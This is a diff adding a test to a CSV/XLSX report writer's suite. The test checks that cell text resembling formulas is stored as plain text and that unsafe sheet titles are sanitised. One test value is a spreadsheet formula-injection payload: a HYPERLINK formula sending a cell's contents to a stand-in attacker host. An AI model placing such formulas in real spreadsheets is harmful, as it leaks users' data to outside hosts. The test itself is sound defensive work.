@@ -206,6 +206,20 @@ describe('a report written to CSV and XLSX', () => {
     expect(workbook.getWorksheet(names[3]!)!.getRow(2).values).toEqual([undefined, 'Police']);
   });
 
+  it('xlsx: text that looks like a formula stays text, and a title Excel would refuse as a sheet name is made safe', async () => {
+    const file = path.join(work, 'results.xlsx');
+    await writeReport(file, { title: `Results of "A/B: [pilot]?*" from '2026'`, headers: ['Answer'], rows: [['=HYPERLINK("https://evil.example/?d="&A2,"x")'], ['@SUM(1+1)']] });
+    const workbook = new ExcelJS.Workbook();
+    await workbook.xlsx.readFile(file);
+    const [sheet] = workbook.worksheets;
+    expect(sheet!.name).toBe('Results of "A B pilot " from \'2');
+    for (const row of [2, 3]) {
+      const cell = sheet!.getRow(row).getCell(1);
+      expect(cell.type).toBe(ExcelJS.ValueType.String);
+      expect(cell.formula).toBeUndefined();
+    }
+  });
+
   it('csv: several sections follow one another, each after its title, a blank row between them', async () => {
     const file = path.join(work, 'board.csv');
     const a: Report = { title: 'Plan by agency', headers: ['Agency', 'Red'], rows: [['Council', 1]] };
